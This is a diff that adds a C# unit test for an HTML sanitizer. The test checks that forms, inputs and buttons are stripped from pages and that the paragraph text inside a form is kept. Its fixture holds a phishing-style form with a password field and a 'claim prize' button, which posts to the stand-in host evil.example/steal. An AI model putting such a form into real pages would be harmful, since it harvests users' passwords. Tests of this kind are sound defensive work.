@@ -60,4 +60,26 @@ public class SanitizingTests
         Assert.DoesNotContain("往日文章", document.SanitizedHtml, StringComparison.Ordinal);
         Assert.Contains("Waymo 宣布与现代汽车公司达成多年战略合作伙伴关系", document.SanitizedHtml, StringComparison.Ordinal);
     }
+
+    [Fact]
+    public void Forms_and_their_controls_are_removed_but_the_text_in_a_form_stays()
+    {
+        var html = DisplayHtml.Sanitize("""
+            <p>某车企与某科技公司今日宣布达成合作。</p>
+            <form action="https://evil.example/steal" method="post">
+              <p>表单里的正文</p>
+              <input name="password" type="password"><textarea name="t">写点什么</textarea>
+              <select name="s"><option>选项</option></select><button type="submit">领取奖品</button>
+            </form>
+            """);
+
+        foreach (var tag in new[] { "<form", "<input", "<button", "<select", "<option", "<textarea", "evil.example" })
+        {
+            Assert.DoesNotContain(tag, html, StringComparison.OrdinalIgnoreCase);
+        }
+
+        Assert.DoesNotContain("领取奖品", html, StringComparison.Ordinal);
+        Assert.Contains("<p>表单里的正文</p>", html, StringComparison.Ordinal);
+        Assert.Contains("某车企与某科技公司今日宣布达成合作。", html, StringComparison.Ordinal);
+    }
 }
